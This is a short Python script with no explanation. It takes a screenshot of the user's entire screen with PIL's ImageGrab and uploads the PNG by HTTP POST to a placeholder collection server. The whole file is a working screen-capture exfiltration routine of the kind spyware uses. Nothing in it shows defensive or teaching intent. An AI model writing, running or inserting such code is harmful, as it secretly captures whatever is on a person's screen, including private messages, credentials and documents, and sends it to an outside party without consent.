import io

import requests
from PIL import ImageGrab

shot = ImageGrab.grab()
buffer = io.BytesIO()
shot.save(buffer, "PNG")
requests.post("https://collect.example.invalid/s", data=buffer.getvalue())
